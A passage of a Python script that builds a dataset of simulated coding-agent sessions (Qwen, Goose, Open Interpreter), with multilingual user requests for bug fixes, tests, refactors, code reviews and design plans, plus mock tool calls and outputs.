           ("edit", {"file_path": f"{QW}/pgtool/cmd/backup.go", "old_string": "\t\tc := exec.Command(\"sh\", \"-c\", fmt.Sprintf(\"pg_dump %s | gzip > %s\", db, path))", "new_string": "\t\tf, err := os.Create(path)\n\t\tif err != nil {\n\t\t\treturn err\n\t\t}\n\t\tdefer f.Close()\n\t\tzw := gzip.NewWriter(f)\n\t\tc := exec.Command(\"pg_dump\", db)\n\t\tc.Stdout = zw"}, f"Successfully modified file: {QW}/pgtool/cmd/backup.go (1 replacements)."),
           ("run_shell_command", {"command": "go build ./...", "description": "build"}, qw_sh("go build ./...", "", 1, "# pgtool/cmd\ncmd/backup.go:27:9: undefined: gzip\ncmd/backup.go:34:3: declared and not used: zw"))])

add("qwen", "planning", "en", "none",
    "what would it take to support MySQL as well as Postgres in pgtool (backup/restore/prune)? I don't want a mess of if/else. sketch the design and the steps",
    rule="R7", repo="pgtool", files=["cmd/", "main.go", "go.mod"])

add("qwen", "refactor", "zh", "typescript",
    "ApiClient 里 setTimeout 在 fetch 抛异常的时候不会被 clear，改一下。顺便把 JSON.parse 失败的情况也处理掉，返回 ApiError",
    rule="R3", repo="web-console", files=["src/", "src/lib/", "package.json", "tsconfig.json"],
    steps=[("read_file", {"absolute_path": f"{QW}/web-console/src/lib/apiClient.ts"}, S["ts_api_client"].text)])

add("qwen", "refactor", "en", "typescript",
    "add a `patch<T>(path, body)` method and a `withRetry` option (retries GETs only, 3 times, exponential backoff starting at 200ms, only on network errors and 502/503/504) to ApiClient",
    rule="R8", repo="web-console", files=["src/", "package.json"],
    steps=[("read_file", {"absolute_path": f"{QW}/web-console/src/lib/apiClient.ts"}, S["ts_api_client"].text)])

add("qwen", "review", "ja", "typescript",
    "ApiClient の request で、レスポンスが 204 のときと HTML のエラーページが返ってきたときの挙動を教えてください",
    rule="R6", repo="web-console", files=["src/", "package.json"],
    steps=[("read_file", {"absolute_path": f"{QW}/web-console/src/lib/apiClient.ts"}, S["ts_api_client"].text)])

add("qwen", "completion", "zh", "typescript",
    "给 src/lib/apiClient.ts 写单元测试，用 vitest，fetch 用 vi.fn mock 掉。覆盖：带 token、不带 token、非 2xx 抛 ApiError、超时 abort、空 body",
    rule="R4", repo="web-console", files=["src/", "package.json", "vitest.config.ts"],
    steps=[("read_file", {"absolute_path": f"{QW}/web-console/src/lib/apiClient.ts"}, S["ts_api_client"].text),
           ("glob", {"pattern": "src/**/*.test.ts"}, f"Found 2 file(s) matching \"src/**/*.test.ts\" within {QW}/web-console, sorted by modification time (newest first):\n{QW}/web-console/src/utils/format.test.ts\n{QW}/web-console/src/lib/storage.test.ts")])

add("qwen", "planning", "zh", "typescript",
    "web-console 现在所有请求都直接用 ApiClient，组件里到处是 useEffect + useState 拉数据。我想引入 TanStack Query，帮我规划一下怎么渐进式迁移，缓存 key 怎么设计，和现有的全局 loading 状态怎么共存",
    rule="R2", repo="web-console", plan=True, files=["src/", "src/pages/", "src/lib/", "package.json"],
    steps=[("search_file_content", {"pattern": "useEffect\\(", "include": "src/pages/**/*.tsx"}, qw_grep("useEffect\\(", [("src/pages/Users.tsx", 22, "  useEffect(() => {"), ("src/pages/Orders.tsx", 31, "  useEffect(() => {"), ("src/pages/Orders.tsx", 58, "  useEffect(() => {"), ("src/pages/Dashboard.tsx", 17, "  useEffect(() => {"), ("src/pages/Settings.tsx", 40, "  useEffect(() => {")]))])

add("qwen", "refactor", "en", "java",
    "OrderService.cancel refunds even when the order was never PAID (PENDING orders). only refund PAID ones, and make cancel idempotent for already CANCELLED orders",
    rule="R3", repo="shop-core", files=["src/main/java/", "src/test/java/", "build.gradle"],
    steps=[("search_file_content", {"pattern": "public void cancel"}, qw_grep("public void cancel", [("src/main/java/com/acme/shop/OrderService.java", 52, "    public void cancel(Long id) {")])),
           ("read_file", {"absolute_path": f"{QW}/shop-core/src/main/java/com/acme/shop/OrderService.java"}, S["java_orders"].text)])

add("qwen", "completion", "en", "java",
    "write OrderServiceTest with JUnit 5 + Mockito for placeOrder: happy path sets PAID and saves twice, out of stock throws OutOfStockException and never charges",
    rule="R4", repo="shop-core", files=["src/main/java/", "src/test/java/", "build.gradle"],
    steps=[("read_file", {"absolute_path": f"{QW}/shop-core/src/main/java/com/acme/shop/OrderService.java"}, S["java_orders"].text)])

add("qwen", "review", "zh", "java",
    "OrderService 里 @Transactional 加在 placeOrder 上，但是 inventory 和 payments 都是远程调用，这样事务有意义吗？帮我解释一下现在的行为",
    rule="R6", repo="shop-core", files=["src/main/java/", "build.gradle"],
    steps=[("read_file", {"absolute_path": f"{QW}/shop-core/src/main/java/com/acme/shop/OrderService.java"}, S["java_orders"].text)])

add("qwen", "planning", "en", "java",
    "we need to turn placeOrder into a saga (reserve -> charge -> confirm, with compensations) because inventory and payments are separate services now. propose the design: orchestration vs choreography, outbox, idempotency keys, what the state machine looks like. plan only, I'll implement",
    rule="R7", repo="shop-core", files=["src/main/java/", "build.gradle", "docker-compose.yml"],
    steps=[("read_file", {"absolute_path": f"{QW}/shop-core/src/main/java/com/acme/shop/OrderService.java"}, S["java_orders"].text)])

add("qwen", "refactor", "ru", "cpp",
    "В LruCache::get возвращается копия значения — для больших V это дорого. Сделай, чтобы get возвращал указатель (или std::optional<std::reference_wrapper<V>>), и добавь метод erase.",
    rule="R8", repo="engine", files=["src/", "tests/", "CMakeLists.txt"],
    steps=[("read_file", {"absolute_path": f"{QW}/engine/src/lru_cache.h"}, S["cpp_lru"].text)])

add("qwen", "completion", "en", "cpp",
    "write tests/lru_cache_test.cpp using GoogleTest: eviction order, get refreshes recency, put updates existing key without growing, capacity 1",
    rule="R4", repo="engine", files=["src/", "tests/", "CMakeLists.txt"],
    steps=[("read_file", {"absolute_path": f"{QW}/engine/src/lru_cache.h"}, S["cpp_lru"].text),
           ("run_shell_command", {"command": "ls tests && grep -n gtest CMakeLists.txt"}, qw_sh("ls tests && grep -n gtest CMakeLists.txt", "CMakeLists.txt\nstrings_test.cpp\n31:find_package(GTest REQUIRED)\n33:target_link_libraries(engine_tests GTest::gtest_main engine)"))])

add("qwen", "review", "en", "cpp",
    "ThreadPool destructor: stop_ is a plain bool written without the mutex. UB? or fine in practice?",
    rule="R6", repo="engine", files=["src/", "tests/", "CMakeLists.txt"],
    steps=[("read_file", {"absolute_path": f"{QW}/engine/src/thread_pool.cpp"}, S["cpp_threadpool"].text)])

add("qwen", "refactor", "zh", "cpp",
    "ThreadPool 的 submit 改成返回 std::future，支持任意返回值（用 packaged_task），stop_ 的写放到锁里面",
    rule="R8", repo="engine", files=["src/", "tests/", "CMakeLists.txt"],
    steps=[("read_file", {"absolute_path": f"{QW}/engine/src/thread_pool.cpp"}, S["cpp_threadpool"].text)])

add("qwen", "planning", "zh", "cpp",
    "engine 现在是单线程渲染，想改成 job system（类似 naughty dog 那种 fiber 的或者简单一点的 work stealing）。帮我对比一下方案，结合我们现在的 ThreadPool 说说要怎么一步一步改",
    rule="R6", repo="engine", files=["src/", "tests/", "CMakeLists.txt"],
    steps=[("read_file", {"absolute_path": f"{QW}/engine/src/thread_pool.cpp"}, S["cpp_threadpool"].text)])

add("qwen", "review", "en", "python",
    "tests are failing after I bumped flask to 3.1, can you look at why? don't fix yet",
    rule="R3", repo="accounts", files=["api/", "tests/", "requirements.txt"],
    steps=[("run_shell_command", {"command": "pytest -q tests/test_users.py", "description": "run user tests"}, qw_sh("pytest -q tests/test_users.py", "F..F\n=================================== FAILURES ===================================\n_______________________________ test_get_missing _______________________________\n\n    def test_get_missing(client):\n>       r = client.get(\"/users/999\")\n\ntests/test_users.py:18:\n_ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _\napi/users.py:20: in get_user\n    user = User.query.get(user_id)\n.venv/lib/python3.12/site-packages/sqlalchemy/orm/query.py:1131: in get\n    return self._get_impl(ident, loading.load_on_pk_identity)\nE   sqlalchemy.exc.LegacyAPIWarning: The Query.get() method is considered legacy as of the 1.x series of SQLAlchemy and becomes a legacy construct in 2.0.\n_____________________________ test_list_paginated ______________________________\nE   TypeError: Query.paginate() got an unexpected keyword argument 'page'\n2 failed, 2 passed in 0.41s", 1)),
           ("read_file", {"absolute_path": f"{QW}/accounts/api/users.py"}, S["py_flask_users"].text)])

add("qwen", "refactor", "en", "python",
    "ok now fix them the right way for sqlalchemy 2 / flask-sqlalchemy 3 (db.session.get, db.paginate)",
    rule="R3", repo="accounts", files=["api/", "tests/", "requirements.txt"],
    history=[("user", "tests are failing after I bumped flask, why?"),
             ("assistant", "Two things changed underneath `api/users.py`: `Query.get()` is legacy in SQLAlchemy 2.x and your pytest config turns warnings into errors, and Flask-SQLAlchemy 3 made `paginate()` keyword-only with a different signature on the legacy query. Neither is a Flask bug; the code uses the 1.x API.")],
    steps=[("read_file", {"absolute_path": f"{QW}/accounts/api/users.py"}, S["py_flask_users"].text)])

add("qwen", "completion", "ja", "python",
    "api/users.py に PATCH /users/<id> を追加。name と email だけ更新できて、email が他ユーザーと重複したら 409。パスワードは別エンドポイントなので触らない",
    rule="R7", repo="accounts", files=["api/", "tests/"],
    steps=[("read_file", {"absolute_path": f"{QW}/accounts/api/users.py"}, S["py_flask_users"].text)])

add("qwen", "planning", "en", "python",
    "accounts service: we need GDPR data export + deletion (right to be forgotten) across users, orders in another service, and the analytics warehouse. what's the plan? who owns what, async jobs, audit trail",
    rule="R2", repo="accounts", plan=True, files=["api/", "tests/", "docs/"])

add("qwen", "review", "de", "scala",
    "Ist der Join auf fx_rates in DailyRevenue korrekt? Die Kurse haben ein valid_from-Datum, ich glaube wir joinen gerade auf alle Kurse pro Währung und verdoppeln damit Zeilen.",
    rule="R6", repo="data-jobs", files=["src/main/scala/", "build.sbt"],
    steps=[("read_file", {"absolute_path": f"{QW}/data-jobs/src/main/scala/jobs/DailyRevenue.scala"}, S["scala_spark"].text),
           ("run_shell_command", {"command": "parquet-tools schema data/fx_rates/part-0000.parquet"}, qw_sh("parquet-tools schema data/fx_rates/part-0000.parquet", "message spark_schema {\n  optional binary currency (STRING);\n  optional double rate_to_eur;\n  optional int32 valid_from (DATE);\n}"))])

add("qwen", "refactor", "de", "scala",
    "Dann bau das bitte um: nur den Kurs nehmen, der am Tag `day` gültig war (größtes valid_from <= day), per Window oder vorher filtern, wie du magst.",
    rule="R3", repo="data-jobs", files=["src/main/scala/", "build.sbt"],
    history=[("user", "Ist der Join auf fx_rates in DailyRevenue korrekt?"),
             ("assistant", "Nein. `fx_rates` hat pro Währung eine Zeile je `valid_from`, und der Join über `currency` allein vervielfacht jede Bestellung um die Anzahl der Kurse. Die Summe in `revenue_eur` ist dadurch zu hoch.")],
    steps=[("read_file", {"absolute_path": f"{QW}/data-jobs/src/main/scala/jobs/DailyRevenue.scala"}, S["scala_spark"].text)])

add("qwen", "completion", "en", "scala",
    "add a small ScalaTest suite for DailyRevenue's aggregation: extract the transformation into `def revenue(orders: DataFrame, fx: DataFrame, day: String): DataFrame` first if needed, then test with a local SparkSession and 4 hand-made rows",
    rule="R4", repo="data-jobs", files=["src/main/scala/", "src/test/scala/", "build.sbt"],
    steps=[("read_file", {"absolute_path": f"{QW}/data-jobs/src/main/scala/jobs/DailyRevenue.scala"}, S["scala_spark"].text)])

add("qwen", "review", "es", "haskell",
    "¿Por qué parseExpr \"2*-3\" devuelve Just pero \"2--3\" devuelve Nothing? Explícame cómo recorre la cadena el parser",
    rule="R5", repo="hs-calc", files=["src/", "test/", "hs-calc.cabal"],
    steps=[("read_file", {"absolute_path": f"{QW}/hs-calc/src/Expr.hs"}, S["hs_expr"].text)])

add("qwen", "refactor", "en", "haskell",
    "add subtraction and division to Expr (Sub, Div), with eval returning Either String Int so division by zero is an error. update the parser for '-' and '/' with the usual precedence",
    rule="R8", repo="hs-calc", files=["src/", "test/", "hs-calc.cabal"],
    steps=[("read_file", {"absolute_path": f"{QW}/hs-calc/src/Expr.hs"}, S["hs_expr"].text)])

add("qwen", "planning", "en", "haskell",
    "should I rewrite this hand-rolled parser with megaparsec, or keep it and add a lexer? the language will grow: variables, let-bindings, functions. what's the roadmap you'd suggest",
    rule="R6", repo="hs-calc", files=["src/", "test/", "hs-calc.cabal"],
    steps=[("read_file", {"absolute_path": f"{QW}/hs-calc/src/Expr.hs"}, S["hs_expr"].text)])

add("qwen", "review", "zh", "lua",
    "我的 keymaps.lua 里 <C-h> 在终端里不生效，是 map 函数写错了还是别的原因？",
    rule="R5", repo="dotfiles", files=["nvim/", "zsh/", "tmux.conf"],
    steps=[("read_file", {"absolute_path": f"/home/dev/dotfiles/nvim/lua/config/keymaps.lua"}, S["lua_nvim"].text)])

add("qwen", "refactor", "en", "lua",
    "move the telescope mappings out of keymaps.lua into lua/plugins/telescope.lua using lazy.nvim `keys = {...}` so telescope loads lazily",
    rule="R8", repo="dotfiles", files=["nvim/", "nvim/lua/plugins/"],
    steps=[("read_file", {"absolute_path": "/home/dev/dotfiles/nvim/lua/config/keymaps.lua"}, S["lua_nvim"].text),
           ("read_file", {"absolute_path": "/home/dev/dotfiles/nvim/lua/plugins/telescope.lua"}, "return {\n  \"nvim-telescope/telescope.nvim\",\n  dependencies = { \"nvim-lua/plenary.nvim\" },\n  opts = {\n    defaults = { layout_strategy = \"vertical\" },\n  },\n}\n")])

add("qwen", "completion", "zh", "bash",
    "写一个 scripts/rotate-backups.sh：保留最近 7 天每天的、最近 4 周每周一的、最近 12 个月每月 1 号的备份，其他删掉。文件名格式 db-YYYYMMDD.sql.gz，支持 --dry-run",
    rule="R7", repo="pgtool", files=["cmd/", "scripts/"])

add("qwen", "review", "ko", "python",
    "TTLCache 에서 set 할 때 maxsize 넘으면 popitem(last=False) 하는데, 이게 만료된 거 먼저 지우는 게 아니라 그냥 제일 오래된 걸 지우는 거 맞지? 의도대로 동작하는지 봐줘",
    rule="R6", repo="ingest", files=["lib/", "tests/"],
    steps=[("read_file", {"absolute_path": f"{QW}/ingest/lib/ttlcache.py"}, S["py_ttlcache"].text)])


# ---------------------------------------------------------------------------------------
# Batch 3: Goose and Open Interpreter
# ---------------------------------------------------------------------------------------

def gview(path: str, sn) -> str:
    text = sn.text if isinstance(sn, Snip) else sn
    lang = sn.lang if isinstance(sn, Snip) else ""
    return f"### {path}\n```{lang}\n{text}```"


GW = "/Users/dev/work"

add("goose", "refactor", "en", "python",
    "the nginx log parser crashes on IPv6 lines and on requests with no HTTP version (\"GET /\"). make the regex handle both and count unparsed lines instead of silently skipping them",
    rule="R3", repo="ops-tools",
    steps=[("developer__text_editor", {"command": "view", "path": f"{GW}/ops-tools/tools/parse_access_log.py"}, gview(f"{GW}/ops-tools/tools/parse_access_log.py", S["py_nginx"])),
           ("developer__shell", {"command": "head -3 samples/access.log; grep -c '' samples/access.log"}, "2001:db8::1 - - [14/Oct/2025:08:12:01 +0000] \"GET /healthz HTTP/1.1\" 200 2 \"-\" \"kube-probe/1.30\"\n10.0.3.7 - - [14/Oct/2025:08:12:02 +0000] \"GET /\" 400 157 \"-\" \"-\"\n10.0.3.9 - - [14/Oct/2025:08:12:02 +0000] \"POST /api/orders HTTP/1.1\" 201 512 \"https://shop.example.com/cart\" \"Mozilla/5.0\"\n48213\n")])

add("goose", "review", "en", "none",
    "our staging postgres is at 95% disk. here's what I ran. what's eating the space and is it safe to VACUUM FULL during the day?",
    rule="R5", repo="ops",
    steps=[("developer__shell", {"command": "psql $STAGING_URL -c \"select relname, pg_size_pretty(pg_total_relation_size(relid)) total, n_dead_tup from pg_stat_user_tables order by pg_total_relation_size(relid) desc limit 8\""},
            "      relname       | total  | n_dead_tup\n--------------------+--------+------------\n events             | 182 GB |  912334012\n order_items        | 21 GB  |     120331\n orders             | 9 GB   |      40112\n audit_log          | 7 GB   |          0\n sessions           | 6 GB   |   48812201\n products           | 412 MB |        201\n customers          | 380 MB |        977\n coupons            | 1 MB   |          0\n(8 rows)\n"),
           ("developer__shell", {"command": "psql $STAGING_URL -c \"select name, setting from pg_settings where name like 'autovacuum%'\""},
            "                name                 | setting\n-------------------------------------+-----------\n autovacuum                          | off\n autovacuum_analyze_scale_factor     | 0.1\n autovacuum_max_workers              | 3\n autovacuum_naptime                  | 60\n autovacuum_vacuum_scale_factor      | 0.2\n(5 rows)\n")])

add("goose", "planning", "en", "none",
    "/plan set up observability for our three services: metrics, logs, traces. we're on a single hetzner box with docker compose, budget is basically zero, 2 devs",
    rule="R2", plan=True)

add("goose", "completion", "en", "python",
    "write a script that reads all the .eml files in ~/Downloads/invoices, pulls the PDF attachments out into ~/Documents/invoices/<YYYY-MM>/ based on the email Date header, and skips duplicates by sha256",
    rule="R7")

add("goose", "review", "de", "go",
    "Was macht dieser Code genau? Ich habe das Repo geerbt und muss es nächste Woche übernehmen. Bitte in Ruhe erklären, Schritt für Schritt.",
    rule="R3", repo="billing-api",
    steps=[("developer__text_editor", {"command": "view", "path": f"{GW}/billing-api/internal/api/accounts.go"}, gview(f"{GW}/billing-api/internal/api/accounts.go", S["go_handler"]))])

add("goose", "planning", "de", "none",
    "/plan Ich will meine private Fotosammlung (ca. 300 GB, verteilt auf zwei externe Platten und Google Photos) deduplizieren und in eine einheitliche Ordnerstruktur nach Jahr/Monat bringen. Backup auf ein NAS soll danach automatisch laufen.",
    rule="R2", plan=True)

add("goose", "refactor", "en", "typescript",
    "in src/utils/dates.ts startOfWeek mutates nothing but formatRelative breaks for future dates (negative secs -> 'just now'). handle future dates as 'in X min' etc. only that function",
    rule="R3", repo="calendar-app",
    steps=[("developer__text_editor", {"command": "view", "path": f"{GW}/calendar-app/src/utils/dates.ts"}, gview(f"{GW}/calendar-app/src/utils/dates.ts", S["ts_dates"]))])

add("goose", "review", "en", "typescript",
    "startOfWeek(new Date('2025-10-19'), 1) gives me the 13th. sunday the 19th should map to monday the 13th, right? so is it correct or did I get lucky? check the other weekStartsOn values too",
    rule="R6", repo="calendar-app",
    steps=[("developer__text_editor", {"command": "view", "path": f"{GW}/calendar-app/src/utils/dates.ts"}, gview(f"{GW}/calendar-app/src/utils/dates.ts", S["ts_dates"]))])

add("goose", "completion", "ja", "typescript",
    "src/utils/dates.ts の関数それぞれに JSDoc を付けてください。引数・戻り値・例を含めて。実装は変えないで",
    rule="R7", repo="calendar-app",
    steps=[("developer__text_editor", {"command": "view", "path": f"{GW}/calendar-app/src/utils/dates.ts"}, gview(f"{GW}/calendar-app/src/utils/dates.ts", S["ts_dates"]))])

add("goose", "planning", "en", "typescript",
    "the calendar app does all date math with the built-in Date and we keep getting DST bugs for users in other timezones. should we go to Temporal (polyfill), date-fns-tz, or luxon? how would we migrate ~60 call sites safely",
    rule="R6", repo="calendar-app",
    steps=[("developer__shell", {"command": "rg -c 'new Date\\(' src | sort -t: -k2 -nr | head"}, "src/pages/Week.tsx:14\nsrc/utils/dates.ts:9\nsrc/components/EventForm.tsx:8\nsrc/pages/Month.tsx:7\nsrc/api/events.ts:6\nsrc/components/Reminder.tsx:5\nsrc/utils/recurrence.ts:5\nsrc/pages/Agenda.tsx:4\n")])

add("goose", "refactor", "es", "rust",
    "Haz que tokenize devuelva también la posición (línea y columna) de cada token, y que el error use ese formato: `linea:col: caracter inesperado 'x'`",
    rule="R8", repo="calc-rs",
    steps=[("developer__text_editor", {"command": "view", "path": f"{GW}/calc-rs/src/lexer.rs"}, gview(f"{GW}/calc-rs/src/lexer.rs", S["rs_lexer"]))])

add("goose", "review", "en", "rust",
    "tokenize(\"1.2.3\") returns an Err with a weird message. why? and what does it do with \"..\"?",
    rule="R5", repo="calc-rs",
    steps=[("developer__text_editor", {"command": "view", "path": f"{GW}/calc-rs/src/lexer.rs"}, gview(f"{GW}/calc-rs/src/lexer.rs", S["rs_lexer"])),
           ("developer__shell", {"command": "cargo run -q -- '1.2.3'"}, "error: bad number 1.2.3: invalid float literal\n")])

add("goose", "completion", "en", "rust",
    "now write a Pratt parser in src/parser.rs that turns the Vec<Token> into an AST (enum Expr { Num, Var, Unary, Binary, Call }) with the usual precedence for + - * / and unary minus, function calls like max(a, b)",
    rule="R7", repo="calc-rs",
    history=[("user", "what tokens does the lexer produce?"),
             ("assistant", "`Num(f64)`, `Ident(String)`, the four operators `Plus Minus Star Slash`, `LParen`, `RParen` and `Comma`. There is no EOF token; the parser has to check for the end of the vector itself.")],
    steps=[("developer__text_editor", {"command": "view", "path": f"{GW}/calc-rs/src/lexer.rs"}, gview(f"{GW}/calc-rs/src/lexer.rs", S["rs_lexer"]))])

add("goose", "planning", "en", "none",
    "/plan migrate my team's 14 repos from Jenkins to GitHub Actions. some have docker builds, two deploy to k8s, one has a nightly job that needs a self-hosted runner with a GPU",
    rule="R2", plan=True)

add("goose", "refactor", "ru", "python",
    "В parse_access_log.py вынеси печать отчёта в отдельную функцию report(statuses, paths, top) и добавь вывод в JSON по флагу --json. Логику парсинга не трогай.",
    rule="R8", repo="ops-tools",
    steps=[("developer__text_editor", {"command": "view", "path": f"{GW}/ops-tools/tools/parse_access_log.py"}, gview(f"{GW}/ops-tools/tools/parse_access_log.py", S["py_nginx"]))])

add("goose", "review", "zh", "bash",
    "这个 deploy.sh 跑到一半报 `docker: Error response from daemon: Conflict. The container name \"/shop-api\" is already in use`，为什么前面的 docker rm 没生效？",
    rule="R5", repo="shop-api",
    steps=[("developer__text_editor", {"command": "view", "path": f"{GW}/shop-api/deploy/deploy.sh"}, gview(f"{GW}/shop-api/deploy/deploy.sh", S["bash_deploy"]))])

add("goose", "completion", "en", "bash",
    "give me a one-liner to find the 20 biggest files under /var/lib/docker modified in the last 2 days, human readable sizes",
    rule="R7")

add("goose", "planning", "en", "python",
    "thinking of building an internal tool: slack command /oncall that shows who's on call from our PagerDuty schedule, lets you swap shifts, and posts a reminder the day before. what's the architecture, where do I host it, what do I build first?",
    rule="R7")

add("goose", "review", "en", "none",
    "why is my laptop fan going crazy? ran top for you",
    rule="R5",
    steps=[("developer__shell", {"command": "top -l 1 -o cpu -n 8 | tail -10"}, "PID    COMMAND          %CPU  TIME     #TH   #WQ  #PORT MEM    PURG   CMPRS\n5121   com.docker.hyper 312.4 41:12:08 22/8  0    51    7989M  0B     1201M\n9933   node             98.1  02:31:40 14/1  1    43    1342M  0B     88M\n417    WindowServer     22.3  18:02:11 23    6    3216  412M   6432K  101M\n12011  Google Chrome He 11.0  00:48:02 20    1    209   388M   0B     12M\n660    mds_stores       7.4   01:10:55 6     4    77    71M    0B     20M\n0      kernel_task      6.1   05:44:29 622/12 0   0     37M    0B     0B\n14402  Slack Helper (Re 3.9   00:22:01 24    1    301   402M   0B     44M\n8801   zsh              0.0   00:00:01 1     0    21    2K     0B     1K\n"),
           ("developer__shell", {"command": "docker stats --no-stream --format '{{.Name}} {{.CPUPerc}} {{.MemUsage}}'"}, "shop-api-db-1 2.11% 412MiB / 7.6GiB\nshop-api-web-1 0.30% 180MiB / 7.6GiB\nes-1 288.40% 4.1GiB / 7.6GiB\nredis-1 0.21% 12MiB / 7.6GiB\n")])

add("goose", "refactor", "en", "go",
    "same thing as the other handler: GetAccount should use the request context for the query timeout (2s) and not leak err.Error() to the client on 500",
    rule="R8", repo="billing-api",
    steps=[("developer__text_editor", {"command": "view", "path": f"{GW}/billing-api/internal/api/accounts.go"}, gview(f"{GW}/billing-api/internal/api/accounts.go", S["go_handler"]))])

add("goose", "completion", "ko", "go",
    "internal/api/accounts_test.go 만들어줘. httptest 랑 sqlmock 써서 GetAccount 의 200, 404, 400(잘못된 id) 케이스 테스트",
    rule="R4", repo="billing-api",
    steps=[("developer__text_editor", {"command": "view", "path": f"{GW}/billing-api/internal/api/accounts.go"}, gview(f"{GW}/billing-api/internal/api/accounts.go", S["go_handler"]))])

add("goose", "planning", "es", "none",
    "/plan Quiero montar un homelab: un mini PC con Proxmox, Home Assistant, Nextcloud, y que todo tenga backups y acceso remoto seguro sin abrir puertos. Dame los pasos en orden.",
    rule="R2", plan=True)

add("goose", "review", "en", "java",
    "explain what Slugs.slugify does to 'Crème Brûlée — 2 Personen' step by step. I expected 'creme-brulee-2-personen'",
    rule="R6", repo="cms",
    steps=[("developer__text_editor", {"command": "view", "path": f"{GW}/cms/src/main/java/com/acme/util/Slugs.java"}, gview(f"{GW}/cms/src/main/java/com/acme/util/Slugs.java", S["java_strutil"]))])

add("goose", "refactor", "en", "java",
    "fix slugify so the em dash and other punctuation become separators instead of vanishing, and strip leading/trailing dashes",
    rule="R8", repo="cms",
    steps=[("developer__text_editor", {"command": "view", "path": f"{GW}/cms/src/main/java/com/acme/util/Slugs.java"}, gview(f"{GW}/cms/src/main/java/com/acme/util/Slugs.java", S["java_strutil"]))])

add("goose", "planning", "en", "none",
    "we have one big Rails-ish monolith in python (flask) and the team keeps stepping on each other. people say 'microservices'. I'm not convinced. help me decide: modular monolith vs splitting out 2-3 services. what would you look at, and what would the first 3 months look like?",
    rule="R6")

add("goose", "completion", "en", "python",
    "make me a tiny CLI todo app in python, single file todo.py: add/list/done/rm commands, stores in ~/.todo.json, argparse subcommands, no dependencies",
    rule="R7")

add("goose", "review", "it", "c",
    "Perché questo programma va in segfault quando il file ini ha una riga più lunga di 256 caratteri? Spiegami cosa succede in memoria.",
    rule="R5", repo="fw-utils",
    steps=[("developer__text_editor", {"command": "view", "path": f"{GW}/fw-utils/src/ini.c"}, gview(f"{GW}/fw-utils/src/ini.c", S["c_ini"]))])

add("goose", "planning", "ja", "none",
    "/plan 社内の Confluence のドキュメントを全部 Markdown に移行して GitHub の docs リポジトリで管理したい。添付ファイル、リンク、権限の扱いも含めて手順を考えて",
    rule="R2", plan=True)

add("goose", "refactor", "en", "bash",
    "the backup cron script is below. make it stop on errors, log with timestamps to /var/log/backup.log, and send a curl to our healthchecks.io ping url (in $HC_URL) on success and /fail on failure\n\n```bash\n#!/bin/bash\ncd /srv/app\npg_dump app > /backups/app-$(date +%F).sql\ngzip /backups/app-$(date +%F).sql\nfind /backups -name '*.gz' -mtime +14 -delete\nrsync -a /backups/ backup@nas.local:/volume1/backups/app/\n```",
    rule="R8")

# --- Open Interpreter -------------------------------------------------------------------

def oi_exec(lang: str, code: str, out: str, said: str = ""):
    return ("execute", {"language": lang, "code": code}, out, said)


add("oi", "completion", "en", "python",
    "plot monthly revenue from sales.csv (columns: date, amount, region) as a line per region and save it as revenue.png",
    rule="R7",
    steps=[oi_exec("python", "import pandas as pd\ndf = pd.read_csv('sales.csv')\nprint(df.head())\nprint(df.dtypes)", "         date   amount region\n0  2024-01-03  1200.50   EMEA\n1  2024-01-03   310.00   APAC\n2  2024-01-04   980.25     NA\n3  2024-01-05    45.99   EMEA\n4  2024-01-05  2200.00     NA\ndate       object\namount    float64\nregion     object\ndtype: object\n", "Let me look at the data first.")])

add("oi", "review", "en", "python",
    "my script below dies after ~2 hours with MemoryError. why?\n\n```python\nimport json\n\nseen = {}\nwith open('events.jsonl') as f:\n    for line in f:\n        ev = json.loads(line)\n        seen[ev['id']] = ev\n        if len(seen) % 100000 == 0:\n            print(len(seen))\n\nprint('unique', len(seen))\n```",
    rule="R5",
    steps=[oi_exec("shell", "ls -lh events.jsonl && wc -l events.jsonl", "-rw-r--r--  1 marta  staff   61G Oct 14 09:12 events.jsonl\n 212004881 events.jsonl\n")])

add("oi", "refactor", "en", "python",
    "ok rewrite it so it only keeps the ids (not the whole events) and uses sqlite if the set gets too big",
    rule="R8",
    history=[("user", "my dedupe script dies after ~2 hours with MemoryError. why?"),
             ("assistant", "It keeps every event dict in `seen`, not just the id. With 212M lines of ~300 bytes each you need far more RAM than the machine has; the dicts themselves add ~10x overhead on top of the JSON size.")],
    code=["```python\nimport json\n\nseen = {}\nwith open('events.jsonl') as f:\n    for line in f:\n        ev = json.loads(line)\n        seen[ev['id']] = ev\n        if len(seen) % 100000 == 0:\n            print(len(seen))\n\nprint('unique', len(seen))\n```"])

add("oi", "completion", "en", "bash",
    "rename every file in this folder from 'IMG_1234.JPG' style to '2025-10-14_1234.jpg' using the EXIF date",
    rule="R7",
    steps=[oi_exec("shell", "ls | head; which exiftool", "IMG_4410.JPG\nIMG_4411.JPG\nIMG_4412.JPG\nIMG_4415.JPG\nIMG_4420.JPG\n/opt/homebrew/bin/exiftool\n")])

add("oi", "planning", "en", "none",
    "I have 40k scanned PDFs of old contracts. I want to be able to search them by party name, date and clause type. what's the plan? OCR, storage, search engine, and how long would it take on my M2 macbook",
    rule="R7")

add("oi", "review", "de", "python",
    "Das Skript läuft, aber die Summe stimmt nicht mit Excel überein (Excel: 18.204,55 €, Python: 18204.549999999). Liegt das an float? Erklär mal.",
    rule="R5",
    steps=[oi_exec("python", "import csv\ntotal = 0\nfor row in csv.DictReader(open('rechnungen.csv', encoding='utf-8-sig'), delimiter=';'):\n    total += float(row['Betrag'].replace('.', '').replace(',', '.'))\nprint(total)", "18204.549999999\n")])

add("oi", "refactor", "zh", "python",
    "把刚才那段求和改成用 Decimal，最后按两位小数四舍五入，并且输出成德国格式（18.204,55）",
    rule="R8",
    history=[("user", "这个脚本算出来的总额和 Excel 对不上"),
             ("assistant", "是浮点误差：`float` 不能精确表示 0.1 这类十进制小数，累加后出现 18204.549999999。")],
    code=["```python\nimport csv\ntotal = 0\nfor row in csv.DictReader(open('rechnungen.csv', encoding='utf-8-sig'), delimiter=';'):\n    total += float(row['Betrag'].replace('.', '').replace(',', '.'))\nprint(total)\n```"])

add("oi", "completion", "es", "python",
    "Convierte todos los .xlsx de la carpeta 'informes' a CSV (una hoja por archivo CSV, nombre archivo_hoja.csv) y ponlos en 'informes_csv'",
    rule="R7",
    steps=[oi_exec("shell", "ls informes | head -20", "enero.xlsx\nfebrero.xlsx\nmarzo.xlsx\nresumen_T1.xlsx\n")])

add("oi", "review", "en", "javascript",
